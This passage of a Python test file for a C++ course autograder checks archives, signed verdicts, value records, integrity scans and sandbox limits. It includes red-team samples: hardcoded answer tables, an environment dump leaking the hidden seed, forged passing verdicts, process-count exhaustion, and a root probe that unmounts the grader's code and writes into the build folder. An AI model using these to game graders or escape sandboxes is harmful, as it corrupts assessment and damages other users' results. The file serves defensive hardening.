        # the kernel sends SIGXCPU at the soft limit (with soft == hard it sends SIGKILL at once)
        r = subprocess.run([*Limits(cpu_seconds=1).prlimit(), "sh", "-c", "while :; do :; done"], timeout=60)
        self.assertEqual(r.returncode, -24)   # SIGXCPU

    def test_worker_paths_are_the_students(self):
        from wb.grading import config
        from wb.grading.sandbox import Sandbox
        from wb.grading.worker import Worker
        w = Worker(1, ROOT / "build-grade", [], config.load(), Sandbox("limits"))
        rel = (w.overlay / "01_sigmoid").relative_to(ROOT)
        for raw, want in [
                (f"{rel}/ex2_x.cpp:2:8: error: expected ';'", "chapters/01_sigmoid/ex2_x.cpp:2:8: error: expected ';'"),
                (f"{w.overlay}/01_sigmoid/ex2_x.cpp:2: error: x", "chapters/01_sigmoid/ex2_x.cpp:2: error: x"),
                ("../overlay/chapters/01_sigmoid/ex1_x.cpp:1:1: error: y", "chapters/01_sigmoid/ex1_x.cpp:1:1: error: y"),
                (f"{ROOT}/chapters/01_sigmoid/sigmoid.hpp:3: error: (inside {w.build}/support/x.hxx:4)",
                 "chapters/01_sigmoid/sigmoid.hpp:3: error: (inside build/support/x.hxx:4)"),
                (f"link error: f: ch01_student_lib.dir/__/__/{rel}/ex1_x.cpp.o",
                 "link error: f: ch01_student_lib.dir/chapters/01_sigmoid/ex1_x.cpp.o"),
                (f"    2 | #include \"{ROOT}/x.hpp\"", f"    2 | #include \"{ROOT}/x.hpp\"")]:   # the student's own line
            self.assertEqual(w._student_paths(raw), want)


class Archives(unittest.TestCase):
    def test_duplicate_members(self):
        import io
        import tarfile
        import warnings
        from wb.grading import submission
        tmp = Path(tempfile.mkdtemp(prefix="wb-dup-"))
        try:
            name = "chapters/01_sigmoid/ex1_sigmoid.cpp"
            with warnings.catch_warnings(), zipfile.ZipFile(tmp / "a.zip", "w") as zf:
                warnings.simplefilter("ignore")
                zf.writestr(name, b"// one\n")
                zf.writestr(name, b"// two\n")
                zf.writestr("chapters/01_sigmoid/ex2_sigmoid_prime.cpp", b"// same\n")
                zf.writestr("chapters/01_sigmoid/ex2_sigmoid_prime.cpp", b"// same\n")
            sub = submission.load(tmp / "a.zip")
            self.assertNotIn(("01_sigmoid", "ex1_sigmoid.cpp"), sub.files)
            self.assertEqual(len(sub.problems), 1, sub.problems)
            self.assertIn(f"{name}: 2 entries of this name in the archive, with different contents: ambiguous, refused",
                          sub.problems[0])
            self.assertEqual(sub.files[("01_sigmoid", "ex2_sigmoid_prime.cpp")], b"// same\n")   # identical: no doubt
            with tarfile.open(tmp / "b.tar", "w") as tf:
                for data in (b"// one\n", b"// two\n"):
                    info = tarfile.TarInfo(name)
                    info.size = len(data)
                    tf.addfile(info, io.BytesIO(data))
            sub = submission.load(tmp / "b.tar")
            self.assertNotIn(("01_sigmoid", "ex1_sigmoid.cpp"), sub.files)
            self.assertIn("ambiguous, refused", sub.problems[0])
        finally:
            shutil.rmtree(tmp, ignore_errors=True)


class Shares(unittest.TestCase):
    def test_split_points(self):
        from wb.grading.worker import split_points
        for points, n in [(10, 3), (10, 7), (20, 11), (15, 6), (0, 4), (10, 1), (7.5, 9)]:
            s = split_points(points, n)
            self.assertEqual(len(s), n)
            self.assertEqual(round(sum(s), 4), points)
            self.assertLessEqual(max(s) - min(s), 0.0001 + 1e-12)


class Verdicts(unittest.TestCase):
    """The verdict records: what the grader accepts."""

    def test_records(self):
        import hashlib
        import hmac
        from wb.grading.worker import read_verdicts
        key = os.urandom(32)

        def rec(seq, st, path, k=key):
            body = f"{seq} {st} {path}".encode()
            return b"WBV1 " + body + b" " + hmac.new(k, body, hashlib.sha256).hexdigest().encode() + b"\n"

        good = rec(0, "P", "ex1_1_sigmoid/a") + rec(1, "F", "ex1_1_sigmoid/b") + rec(2, "P", "ex1_1_sigmoid/hidden/c")
        got, problems = read_verdicts(good, key, "ex1_1_sigmoid")
        self.assertEqual(got, {"a": "P", "b": "F", "hidden/c": "P"})
        self.assertEqual(problems, [])
        for bad in (rec(0, "P", "ex1_1_sigmoid/a", k=os.urandom(32)),       # another key
                    rec(0, "P", "ex1_1_sigmoid/a") * 2,                      # twice
                    rec(1, "P", "ex1_1_sigmoid/a"),                          # out of sequence
                    rec(0, "P", "ex1_2_other/a"),                            # another suite
                    b"<testcase/>\n"):                                       # not a record
            _, problems = read_verdicts(bad, key, "ex1_1_sigmoid")
            self.assertTrue(problems, bad)


class ValueRecords(unittest.TestCase):
    """The grader's own verdict on the numbers (tools/wb/grading/records.py): the student's run records
    the values it computed, the trusted run (reference solutions) the expected values and tolerances."""

    def line(self, key, seq, path, index, payload):
        import hashlib
        import hmac
        body = f"{seq} {path} {index} {payload}".encode()
        return b"WBR1 " + body + b" " + hmac.new(key, body, hashlib.sha256).hexdigest().encode() + b"\n"

    def verdict(self, key, seq, st, path):
        import hashlib
        import hmac
        body = f"{seq} {st} {path}".encode()
        return b"WBV1 " + body + b" " + hmac.new(key, body, hashlib.sha256).hexdigest().encode() + b"\n"

    def test_parse_and_compare(self):
        from wb.grading import records
        ref = records.parse(0, "k=close;at=tests/01_sigmoid/t.cpp:9;w=sigma%28z%29;a=s2;v=0.5,0.7;e=s2;ev=0.5,0.7310585786300049;tol=1e-12,0")
        self.assertEqual((ref.kind, ref.at, ref.what, ref.shape, ref.tol), ("close", "tests/01_sigmoid/t.cpp:9", "sigma(z)", (2,), (1e-12, 0.0)))
        good = records.parse(0, "k=close;at=tests/01_sigmoid/t.cpp:9;w=sigma;a=s2;v=0.5,0.73105857863000501")
        self.assertIsNone(records.disagreement(good, ref))
        zeros = records.parse(0, "k=close;at=tests/01_sigmoid/t.cpp:9;w=sigma;a=s2;v=0,0")
        self.assertIn("differs in 2 of 2 elements", records.disagreement(zeros, ref))
        nan = records.parse(0, "k=close;at=tests/01_sigmoid/t.cpp:9;w=sigma;a=s2;v=nan,0.7")
        self.assertIn("NaN", records.disagreement(nan, ref))
        wide = records.parse(0, "k=close;at=tests/01_sigmoid/t.cpp:9;w=sigma;a=s1x2;v=0.5,0.7310585786300049")
        self.assertIn("should be 2, got 1x2", records.disagreement(wide, ref))
        elsewhere = records.parse(0, "k=close;at=tests/01_sigmoid/t.cpp:10;w=sigma;a=s2;v=0.5,0.7310585786300049")
        self.assertIn("another order", records.disagreement(elsewhere, ref))
        grad_ref = records.parse(0, "k=grad;at=t.cpp:1;w=dW;a=s2;v=1,2;e=s2;ev=1,2.000001;tol=1e-4,0")
        self.assertIsNone(records.disagreement(records.parse(0, "k=grad;at=t.cpp:1;w=dW;a=s2;v=1,2"), grad_ref))
        self.assertIn("relative error", records.disagreement(records.parse(0, "k=grad;at=t.cpp:1;w=dW;a=s2;v=2,4"), grad_ref))
        # check_same: two of the exercise's own values, compared with each other (a correct variant
        # that rounds differently from the solution is still deterministic)
        same_ref = records.parse(0, "k=same;at=t.cpp:5;w=W1;a=s2;v=1,2;e=s2;ev=1,2;tol=0,0")
        self.assertIsNone(records.disagreement(records.parse(0, "k=same;at=t.cpp:5;w=W1;a=s2;v=1.5,2;e=s2;ev=1.5,2;tol=0,0"), same_ref))
        self.assertIn("differs", records.disagreement(records.parse(0, "k=same;at=t.cpp:5;w=W1;a=s2;v=1.5,2;e=s2;ev=1.25,2"), same_ref))
        self.assertIn("stopped before", records.compare_case([], [ref]))
        self.assertIn("more checks", records.compare_case([good, good], [ref]))
        for bad in ("k=close;a=s2;v=1", "k=what;a=s", "k=close;at=x;a=2;v=1,2"):
            with self.assertRaises(ValueError):
                records.parse(0, bad)

    def test_a_passed_verdict_with_wrong_values_fails(self):
        from wb.grading import records
        from wb.grading.worker import check_values, read_channel
        key = os.urandom(32)
        data = (self.line(key, 0, "ex1_1_sigmoid/a", 0, "k=close;at=t.cpp:9;w=s;a=s2;v=0,0")
                + self.verdict(key, 1, "P", "ex1_1_sigmoid/a")
                + self.line(key, 2, "ex1_1_sigmoid/hidden/b", 0, "k=close;at=h.cpp:3;w=s;a=s1;v=0.25")
                + self.verdict(key, 3, "P", "ex1_1_sigmoid/hidden/b"))
        verdicts, values, problems = read_channel(data, key, "ex1_1_sigmoid")
        self.assertEqual(problems, [])
        self.assertEqual(verdicts, {"a": "P", "hidden/b": "P"})
        trusted = {"ex1_1_sigmoid/a": [records.parse(0, "k=close;at=t.cpp:9;w=s;a=s2;v=0.5,0.5;e=s2;ev=0.5,0.5;tol=1e-12,0")],
                   "ex1_1_sigmoid/hidden/b": [records.parse(0, "k=close;at=h.cpp:3;w=s;a=s1;v=0.25;e=s1;ev=0.25;tol=0,0")]}
        failing = check_values(verdicts, values, trusted, "ex1_1_sigmoid")
        self.assertEqual(list(failing), ["a"])
        # a case with no value record at all, where the trusted run has one: fails too
        self.assertIn("hidden/b", check_values({"hidden/b": "P"}, {}, trusted, "ex1_1_sigmoid"))
        # forged or misplaced records are problems, as forged verdicts are
        for bad in (self.line(os.urandom(32), 0, "ex1_1_sigmoid/a", 0, "k=close;at=t;w=s;a=s;v=1"),
                    self.line(key, 0, "ex1_1_sigmoid/a", 0, "k=close;at=t;w=s;a=s;v=1,2"),
                    self.line(key, 0, "ex1_1_sigmoid/a", 1, "k=close;at=t;w=s;a=s;v=1"),
                    self.verdict(key, 0, "P", "ex1_1_sigmoid/a") + self.line(key, 1, "ex1_1_sigmoid/a", 0, "k=close;at=t;w=s;a=s;v=1")):
            self.assertTrue(read_channel(bad, key, "ex1_1_sigmoid")[2], bad)


class IntegrityScans(unittest.TestCase):
    def test_source_scan(self):
        from wb.grading.integrity import check_source
        self.assertTrue(check_source("a.cpp", 'asm(".incbin \\"/etc/passwd\\"");'))
        self.assertTrue(check_source("a.cpp", "void f() { __asm__ volatile(\"syscall\"); }"))
        self.assertTrue(check_source("a.cpp", "void f() { as\\\nm(\"nop\"); }"))          # a line splice
        self.assertTrue(check_source("a.cpp", "#define C(a, b) a##b\nC(as, m)(\"nop\");"))  # token pasting
        self.assertEqual(check_source("a.cpp", "// asm in a comment\nconst char* s = \"asm\";\n"), [])
        self.assertEqual(check_source("a.cpp", "double plasma(double x) { return x; }\n"), [])

    def test_object_scan_finds_syscall_instructions_and_weak_definitions(self):
        from wb.grading import integrity
        tmp = Path(tempfile.mkdtemp(prefix="wb-objscan-"))
        try:
            src = tmp / "x.cpp"
            src.write_text("__attribute__((weak)) int helper(int x) { return x; }\n"
                           "inline int in_line(int x) { return x + 1; }\nint use(int x) { return in_line(x); }\n"
                           "long raw() { long r; asm volatile(\"syscall\" : \"=a\"(r) : \"a\"(39L) : \"rcx\", \"r11\"); return r; }\n"
                           "__attribute__((init_priority(101))) struct S { S() {} } s;\n")
            obj = tmp / "x.o"
            subprocess.run(["c++", "-c", "-O0", str(src), "-o", str(obj)], check=True)
            syms = {n.split("(")[0]: (b, c) for n, b, c in integrity.defined_symbols(obj)}
            self.assertEqual(syms["helper"], ("weak", False))
            self.assertEqual(syms["in_line"], ("weak", True))
            self.assertEqual(syms["use"], ("strong", False))
            build = tmp / "build"
            d = build / "chapters" / "01_x" / "CMakeFiles" / "ch01_student_lib.dir"
            d.mkdir(parents=True)
            shutil.copy(obj, d / "ex1_x.cpp.o")
            res = integrity.check_chapter(build, 1, "ch01", ["/"], set(), {"ex1_x.cpp": {"use(int)"}})
            text = "\n".join(res.violations)
            self.assertIn("raw system calls", text)
            self.assertIn("helper(int) as a weak symbol", text)
            self.assertIn(".init_array.", text)
        finally:
            shutil.rmtree(tmp, ignore_errors=True)


class LoaderSymbols(unittest.TestCase):
    """reference_symbols reads every library ldd lists, the loader (no "=>") too."""

    LDD = ("\tlinux-vdso.so.1 (0x00007ffd4b5f2000)\n"
           "\tlibstdc++.so.6 => /lib/x86_64-linux-gnu/libstdc++.so.6 (0x00007f1c2a000000)\n"
           "\tlibmissing.so.1 => not found\n"
           "\t/lib64/ld-linux-x86-64.so.2 (0x00007f1c2a4f2000)\n")

    def test_ldd_lines(self):
        from wb.grading.integrity import ldd_libraries
        self.assertEqual(ldd_libraries(self.LDD), ["/lib/x86_64-linux-gnu/libstdc++.so.6", "/lib64/ld-linux-x86-64.so.2"])

    def test_a_definition_of_a_loader_name_is_flagged(self):
        from wb.grading import integrity
        tmp = Path(tempfile.mkdtemp(prefix="wb-ldso-"))
        try:
            (tmp / "main.cpp").write_text("int main() { return 0; }\n")
            subprocess.run(["c++", str(tmp / "main.cpp"), "-o", str(tmp / "prog")], check=True)
            ldd = subprocess.run(["ldd", str(tmp / "prog")], capture_output=True, text=True).stdout
            if not any("ld-linux" in l for l in integrity.ldd_libraries(ldd)):
                self.skipTest("no ld-linux loader here")
            names = integrity.reference_symbols(tmp, tmp / "prog", [])
            self.assertIn("_r_debug", names)   # defined by ld.so only
            (tmp / "x.cpp").write_text('extern "C" { int _r_debug = 0; }\nint use(int x) { return x + _r_debug; }\n')
            d = tmp / "chapters" / "01_x" / "CMakeFiles" / "ch01_student_lib.dir"
            d.mkdir(parents=True)
            subprocess.run(["c++", "-c", str(tmp / "x.cpp"), "-o", str(d / "ex1_x.cpp.o")], check=True)
            res = integrity.check_chapter(tmp, 1, "ch01", ["/"], names, {"ex1_x.cpp": {"use(int)"}})
            self.assertTrue(any("defines _r_debug" in v for v in res.violations), res.violations)
        finally:
            shutil.rmtree(tmp, ignore_errors=True)


class Scratch(unittest.TestCase):
    """The scratch folder's total size is capped: a size-limited tmpfs under bubblewrap, a watcher
    that kills the process group without it."""

    def test_bwrap_scratch_is_a_size_limited_tmpfs(self):
        from wb.grading.sandbox import Limits, Sandbox
        cmd = Sandbox("bwrap").run_cmd(["/bin/true"], Path("/tmp/x/scratch"), [], Limits(scratch_mb=5),
                                       extra_env={"WB_GRADE_CHANNEL": "3,4"})
        self.assertIn(["--size", str(5 << 20), "--tmpfs", "/tmp/x/scratch"], [cmd[k:k + 4] for k in range(len(cmd))])
        self.assertIn(["--setenv", "WB_GRADE_CHANNEL", "3,4"], [cmd[k:k + 3] for k in range(len(cmd))])

    def test_watcher_stops_a_process_that_fills_the_folder(self):
        from wb.grading.sandbox import Limits, Sandbox
        tmp = Path(tempfile.mkdtemp(prefix="wb-scratch-"))
        try:
            sb = Sandbox("limits")
            p = subprocess.Popen(["sh", "-c", "i=0; while [ $i -lt 200 ]; do head -c 1048576 /dev/zero > f$i; "
                                  "i=$((i+1)); sleep 0.05; done"], cwd=tmp, start_new_session=True)
            watch = sb.scratch_watch(tmp, Limits(scratch_mb=8), p)
            rc = p.wait(timeout=60)
            watch.stop()
            self.assertTrue(watch.tripped)
            self.assertNotEqual(rc, 0)
            self.assertLess(sum(f.stat().st_size for f in tmp.iterdir()), 40 << 20)
        finally:
            shutil.rmtree(tmp, ignore_errors=True)


class CommandLine(unittest.TestCase):
    def test_bad_chapter_arguments_exit_2_without_traceback(self):
        for args in (["run", "abc"], ["check", "abc"], ["watch", "abc"], ["plots", "abc"], ["book", "abc"],
                     ["grade", "--chapters", "abc", "x"], ["grade", "--chapters", "99", "x"], ["run", "99"],
                     ["hint", "x.y"], ["mistakes", "abc"]):
            r = workbook(*args, timeout=120)
            self.assertEqual(r.returncode, 2, (args, r.stdout, r.stderr))
            self.assertNotIn("Traceback", r.stderr, args)
            self.assertRegex(r.stderr, r"workbook: .*(chapter|exercise)", args)




# ------------------------------------------------------------------------------------------------
# Round 2 (helper atk2, 2026-12-04): the value records (records.py) against a hostile student,
# chapter 3 (the chapter whose hidden file is converted to WB_EXPECTED). What held: forging needs
# the right numbers; a table of the public answers with anything else elsewhere is gated to 0 by
# the hidden checks (TABLE8 below, with the trusted run); fewer or more records than the trusted run
# fail. What did not hold is below, each an expected failure with the score it got.
# ------------------------------------------------------------------------------------------------

# 3.8 with no formula: the public tests' inputs and answers as a table, 1 anywhere else.
TABLE8 = r'''#include <cmath>
#include "regression.hpp"
double ch3::brute_force_seconds(std::size_t parameters, double grid_points, double seconds_per_trial) {
    struct Row { std::size_t p; double g, s, out; };
    static const Row rows[] = {{2, 10, 1, 100}, {1, 1000, 0.05 / 1000, 0.05}, {2, 1000, 0.05 / 1000, 50},
                               {3, 1000, 0.05 / 1000, 50000}, {9, 1000, 0.05 / 1000, 5e22}, {0, 1000, 0.25, 0.25}};
    for (const Row& r : rows)
        if (r.p == parameters && r.g == grid_points && r.s == seconds_per_trial) return r.out;
    return 1.0;
}
'''

# The submission's hidden seed in a public case's (visible) message: no getenv, no /proc, no flag.
LEAK8 = r'''#include <stdexcept>
#include <string>
#include "regression.hpp"
extern char** environ;
double ch3::brute_force_seconds(std::size_t, double, double) {
    std::string all;
    for (char** e = environ; e && *e; ++e) all += std::string(*e) + " ";
    throw std::runtime_error("ENV[" + all + "]");
}
'''

# 3.1 with the right values but no shape validation (no check_network): its two shape-error cases
# fail honestly. OBSERVER_PATCH with the JUnit log silenced turns them into signed passes; those cases
# are boolean checks (expect_shape_error), with no value record for the trusted run to contradict.
BOOL_FORWARD = r'''
ch3::Forward ch3::forward(const Matrix& X, const Matrix& W1, const Matrix& W2) {
    @TAME@
    Forward fw;
    fw.Z2 = xt::linalg::dot(X, W1);
    fw.a2 = wb::given::sigmoid(fw.Z2);
    fw.Z3 = xt::linalg::dot(fw.a2, W2);
    fw.f = wb::given::sigmoid(fw.Z3);
    return fw;
}
'''


def bool_forward(forge: bool) -> str:
    head = '#include <xtensor-blas/xlinalg.hpp>\n#include "regression.hpp"\n#include "workbook/given.hpp"\n'
    if not forge:
        return head + BOOL_FORWARD.replace("@TAME@", "")
    patch = OBSERVER_PATCH.replace("#include <link.h>\n", "#include <link.h>\n#include <fcntl.h>\n#include <unistd.h>\n"
                                   "#include <string>\n", 1).replace("    g_done = 1;\n", "    g_done = 1;\n" + SILENCE_LOG, 1)
    return head + patch + BOOL_FORWARD.replace("@TAME@", "tame_the_observer();")


# No trusted run (Worker.trusted_records() returns None when the trusted build is missing, as in an
# instructor tree without solutions/ or a Gradescope image whose worker was reconfigured after
# setup.sh deleted solutions/): the same ./workbook grade with that one method replaced.
NO_TRUSTED_GRADE = r'''
import sys
sys.path.insert(0, sys.argv[1])
from wb.grading import worker
worker.Worker.trusted_records = lambda self, c: None
from wb import cli
sys.exit(cli.main(sys.argv[2:]))
'''


def grade_ch3(out: Path, *subs, extra=(), runner=None) -> subprocess.CompletedProcess:
    args = ["grade", "-q", "--chapters", "3", "--secret", "a-course-secret", "-o", str(out), "--work", str(GRADE_WORK),
            *extra, *map(str, subs)]
    if runner is None:
        return workbook(*args)
    return subprocess.run([sys.executable, "-c", runner, str(ROOT / "tools"), *args], capture_output=True, text=True,
                          env=env(), timeout=2400)


@unittest.skipUnless(CHAPTERS == "1,3", "chapter 3 has not landed")
class AttacksRound2(unittest.TestCase):
    """Chapter 3 against the value records: one grading run for most attacks, small extra runs."""

    @classmethod
    def setUpClass(cls):
        cls.tmp = Path(tempfile.mkdtemp(prefix="wb-attacks2-"))
        s = cls.tmp / "subs"
        ch = "chapters/03_regression/"
        put(s / "table8", ch + "ex8_brute_force_seconds.cpp", TABLE8)
        put(s / "leak", ch + "ex8_brute_force_seconds.cpp", LEAK8)
        put(s / "leak_v2", ch + "ex8_brute_force_seconds.cpp", LEAK8 + "// the same code, one comment more\n")
        put(s / "boolforge", ch + "ex1_forward.cpp", bool_forward(True))
        put(s / "boolhonest", ch + "ex1_forward.cpp", bool_forward(False))
        cls.out = cls.tmp / "out"
        cls.proc = grade_ch3(cls.out, *(s / n for n in ("table8", "leak", "boolforge", "boolhonest")))
        # the same student (--name) graded again with one comment more
        cls.out_v2 = cls.tmp / "out-v2"
        cls.proc_v2 = grade_ch3(cls.out_v2, s / "leak_v2", extra=("--name", "leak"))
        # no trusted run at all
        cls.out_nt = cls.tmp / "out-no-trusted"
        cls.proc_nt = grade_ch3(cls.out_nt, s / "table8", runner=NO_TRUSTED_GRADE)
        # two submissions named alice (a folder and a resubmission elsewhere) and a student alice-2
        put(s / "x" / "alice", ch + "ex8_brute_force_seconds.cpp", TABLE8)
        solution_tree(s / "y" / "alice", ("03",))
        put(s / "z" / "alice-2", ch + "ex8_brute_force_seconds.cpp", LEAK8)
        cls.out_dup = cls.tmp / "out-dup"
        cls.proc_dup = grade_ch3(cls.out_dup, s / "x" / "alice", s / "y" / "alice", s / "z" / "alice-2")

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def results(self, name: str, out: Path | None = None) -> dict:
        return json.loads(((out or self.out) / name / "results.json").read_text())

    def score(self, name: str, ex: str, out: Path | None = None) -> float:
        return round(sum(t["score"] for t in self.results(name, out)["tests"] if t["name"].startswith(ex + " ")), 4)

    def visible_output(self, name: str, out: Path | None = None) -> str:
        r = self.results(name, out)
        return r["output"] + "\n".join(t["output"] for t in r["tests"] if t["visibility"] == "visible")

    def test_the_runs_complete(self):
        for p in (self.proc, self.proc_v2, self.proc_nt, self.proc_dup):
            self.assertEqual(p.returncode, 0, p.stdout[-3000:] + p.stderr[-3000:])

    def test_public_answers_as_a_table_are_gated(self):
        # held: the hidden check's recorded 1.0 disagrees with the trusted run's value
        self.assertEqual(self.score("table8", "3.8"), 0)
        self.assertIn("do not agree with the reference solution's run", (self.out / "table8" / "report.txt").read_text())

    def test_without_a_trusted_run_a_table_of_public_answers_is_not_gated(self):
        # 2026-12-04: 10/10 on 3.8 (the report only notes "no trusted run"). Since chapter 3's hidden
        # checks withhold their expected values (WB_EXPECTED) in the student's build, without a
        # trusted run nothing compares them at all: every finite value passes them, so the gate of
        # issue 13 (a constant earns 0) is gone. Expected: a withheld check that no trusted run
        # confirms does not pass (or the grader refuses to grade the chapter without its trusted run).
        self.assertEqual(self.score("table8", "3.8", self.out_nt), 0)

    def test_the_hidden_seed_changes_with_the_submitted_code(self):
        # 2026-12-04: the seed (HMAC(secret, submission name or student id)) is in the environment of
        # every test process, so a public case can print it in a visible message (LEAK8: "threw an
        # exception: ... WB_HIDDEN_SEED=s1-..."; no getenv, so not even a "review" line), and the
        # same student gets the same seed, hence the same hidden inputs, on every submission: what
        # one grading teaches about them (the hidden cases' messages, shown after the due date, carry
        # the sizes and the trusted run's expected values; the generator is one grading-only file
        # away from the seed) stays valid for every later one, and a table of those answers passes
        # the gate. Expected: the seed also depends on the submitted files (or a nonce per grading,
        # kept in the report), so a resubmission with a table in it draws other inputs.
        import re
        seeds = [re.findall(r"WB_HIDDEN_SEED=(\S+)", self.visible_output("leak", out)) for out in (self.out, self.out_v2)]
        self.assertTrue(seeds[0] and seeds[1], seeds)
        self.assertNotEqual(seeds[0][0], seeds[1][0])

    def test_a_renamed_duplicate_does_not_take_another_students_name(self):
        # 2026-12-04: the second "alice" is renamed "alice-2" without looking at the other names: the
        # student alice-2's own submission becomes "alice-2-2", and the gradebook's row "alice-2" (and
        # OUT/alice-2/, and the hidden seed HMAC(secret, "alice-2")) carries the second alice's 80/80
        # while alice-2 (who scored 0) is listed under a name that is no one's. Expected: a duplicate's
        # new name is not another submission's name (or duplicates are refused).
        import csv
        with open(self.out_dup / "gradebook.csv", newline="") as f:
            rows = {r["submission"]: r for r in csv.DictReader(f)}
        report = (self.out_dup / "alice-2" / "report.txt").read_text()
        self.assertIn("z/alice-2", report.splitlines()[0], f"alice-2's row: {rows.get('alice-2')}")

    @unittest.expectedFailure
    def test_forged_boolean_checks_earn_nothing(self):
        # 2026-12-04: 3.1 without shape validation scores 6.6668/10 honestly (boolhonest: the two
        # shape-error cases fail) and 10/10 with OBSERVER_PATCH and the JUnit log silenced, unflagged:
        # expect_shape_error is a boolean check, with no value record (README: "what is left").
        honest = self.score("boolhonest", "3.1")
        self.assertLess(honest, 10)
        self.assertLessEqual(self.score("boolforge", "3.1"), honest)


class TrustedComparison(unittest.TestCase):
    """worker.check_values at the unit level."""

    def rec(self, payload: str):
        from wb.grading import records
        return records.parse(0, payload)

    def test_a_case_the_trusted_run_did_not_report_does_not_pass_unchecked(self):
        # 2026-12-04: check_values skips a case the trusted run did not report (it failed, timed out,
        # or the trusted program died before it): the student's own signed verdict decides it, which
        # in-process code can forge (OBSERVER_PATCH), and a withheld hidden check has no expected value
        # in the student's process at all. Expected: such a case fails (or is flagged for review).
        from wb.grading.worker import check_values
        trusted = {"ex3_8_brute_force_seconds/hand_worked":
                   [self.rec("k=close;at=t.cpp:1;w=s;a=s;v=100;e=s;ev=100;tol=0,1e-15")]}
        values = {"hidden/random_grids": [self.rec("k=close;at=h.cpp:135;w=s;a=s;v=1")]}
        failing = check_values({"hidden/random_grids": "P"}, values, trusted, "ex3_8_brute_force_seconds")
        self.assertIn("hidden/random_grids", failing)

    def test_without_a_trusted_run_a_withheld_check_does_not_pass(self):
        # 2026-12-04: check_values(..., trusted=None) accepts every signed verdict; for a hidden check
        # whose expected value was withheld (a record without "ev"), nothing was compared anywhere.
        from wb.grading.worker import check_values
        values = {"hidden/random_grids": [self.rec("k=close;at=h.cpp:135;w=s;a=s;v=1")]}
        self.assertIn("hidden/random_grids", check_values({"hidden/random_grids": "P"}, values, None,
                                                          "ex3_8_brute_force_seconds"))


class SharedTestUser(unittest.TestCase):
    """Every worker runs its test processes as the same user (nobody) under RLIMIT_NPROC = 64, and
    the kernel counts that user's tasks system-wide: one test process that holds 64 tasks (plain
    std::thread, nothing the integrity scan flags) and any second test process running in another
    worker make every test process a third worker starts fail: setpriv's execve as nobody returns
    EAGAIN ("setpriv: failed to execute ...: Resource temporarily unavailable", exit code 126), and
    its cases score 0 as "no result". Reproduced end to end on 2026-12-04 with -j 3 (user moved to
    uid 65530 so no other grading on the machine was touched): a submission whose 3.1-3.4 start 100
    sleeping threads each, graded with 40 copies of the reference solutions; two of the 40 lost points
    through no fault of theirs (76/80: 3.7 "no result"; 75/80: 3.5 "no result"), unflagged. Two such
    submissions graded at once (two colluding students, -j 3) would make it every submission of the
    third worker for minutes. Here: the same three processes through three workers' sandboxes, with
    a private uid. Expected: each worker's test user is its own (a uid per worker, or a user
    namespace per run), so that another worker's processes never count against it."""

    @unittest.skipUnless(os.geteuid() == 0 and shutil.which("bwrap") and shutil.which("setpriv"),
                         "needs root, bubblewrap and setpriv (the grader's user switch)")
    def test_a_test_process_holding_the_users_process_count_stops_other_workers(self):
        from wb.grading import config, sandbox as sbm
        from wb.grading.worker import Worker
        tmp = Path(tempfile.mkdtemp(prefix="wb-nproc-"))
        saved = sbm.NOBODY
        sbm.NOBODY = 65531   # a uid no one else uses here: nothing else on this machine is touched
        procs = []
        try:
            base = sbm.detect("bwrap")
            if not base.drop_user:
                self.skipTest("the sandbox does not switch users here")
            cfg = config.load()
            workers = [Worker(k, tmp / "work", [], cfg, base) for k in (1, 2, 3)]
            scratch = tmp / "scratch"
            scratch.mkdir(mode=0o777)
            os.chmod(scratch, 0o777)

            def start(w, script):
                cmd = w.sandbox.run_cmd(["sh", "-c", script], scratch, [], w.limits)
                p = subprocess.Popen(cmd, env=w.sandbox.env(), stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                                     start_new_session=True)
                procs.append(p)
                return p

            # worker 1: a test process holding 64 tasks (the shell and 63 children)
            start(workers[0], "i=0; while [ $i -lt 63 ]; do sleep 30 & i=$((i+1)); done; wait")
            # worker 2: an honest test process, running
            import time
            time.sleep(2)
            start(workers[1], "exec sleep 30")
            time.sleep(2)
            # worker 3: the next test process starts
            third = start(workers[2], "echo started")
            out, _ = third.communicate(timeout=60)
            self.assertEqual((third.returncode, out.decode().strip()), (0, "started"))
        finally:
            import signal
            for p in procs:
                try:
                    os.killpg(p.pid, signal.SIGKILL)
                except ProcessLookupError:
                    pass
                p.communicate()
            sbm.NOBODY = saved
            shutil.rmtree(tmp, ignore_errors=True)


# What the test process can undo of the sandbox when it runs as root: the grader's own code
# (tools/wb/grading, hidden by a tmpfs) unmounted into view, the worker's build folder remounted
# read-write and written to. The paths are the test's; a real attacker reads /proc/self/mountinfo.
ROOT_PROBE = r'''#include <dirent.h>
#include <sys/mount.h>
#include <fstream>
#include <stdexcept>
#include <string>
#include "regression.hpp"
static std::string list(const std::string& d) {
    std::string s;
    if (DIR* p = opendir(d.c_str())) {
        while (dirent* e = readdir(p)) s += std::string(e->d_name) + ",";
        closedir(p);
    }
    return s;
}
double ch3::brute_force_seconds(std::size_t, double, double) {
    std::string msg;
    {
        std::ifstream f("/proc/self/status");
        std::string l;
        while (std::getline(f, l))
            if (l.rfind("Uid", 0) == 0 || l.rfind("CapEff", 0) == 0) msg += l + "; ";
    }
    const std::string hidden = "@ROOT@/tools/wb/grading", build = "@BUILD@";
    msg += "before=[" + list(hidden) + "] ";
    msg += "umount=" + std::to_string(umount2(hidden.c_str(), MNT_DETACH)) + " grader=[" + list(hidden) + "] ";
    msg += "remount=" + std::to_string(mount(nullptr, build.c_str(), nullptr, MS_REMOUNT | MS_BIND, nullptr));
    std::ofstream(build + "/written-by-a-student") << "a student's test process wrote this\n";
    throw std::runtime_error("PROBE " + msg);
}
'''


@unittest.skipUnless(CHAPTERS == "1,3", "chapter 3 has not landed")
@unittest.skipUnless(os.geteuid() == 0 and shutil.which("bwrap") and shutil.which("setpriv"),
                     "needs root, bubblewrap and setpriv (the grader's user switch)")
class RootFallback(unittest.TestCase):
    """Worker.prepare() quietly stops switching to user nobody when the worker's build folder, the
    tree or its datasets are not readable by others (a checkout made under umask 027, a build folder
    made 0750), and _self_check() does the same when the stubs' tests do not run as nobody (which
    another grading run's test process can cause: SharedTestUser). The tests then run as root inside
    bubblewrap, which as root keeps every capability (CapEff 000001fffeffffff): on 2026-12-04, with
    worker-1/build at 0750, a 3.8 of 25 lines, no flagged name (umount2, mount, opendir), unmounted
    the tmpfs over tools/wb/grading and listed the grader's code, remounted the build folder
    read-write and wrote a file into it (the test objects every later submission of the worker is
    linked with), unflagged; the report's Sandbox line only lost "as user nobody". With CAP_MKNOD
